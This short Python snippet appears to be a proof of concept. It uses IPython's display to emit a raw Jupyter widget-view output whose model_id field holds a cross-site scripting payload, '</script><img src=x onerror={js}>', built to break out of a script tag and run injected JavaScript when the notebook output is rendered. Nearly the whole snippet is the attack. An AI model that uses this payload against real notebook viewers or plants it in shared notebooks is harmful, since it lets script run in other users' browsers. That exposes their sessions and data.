from IPython.display import display

display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><img src=x onerror={js}>'}, raw=True)
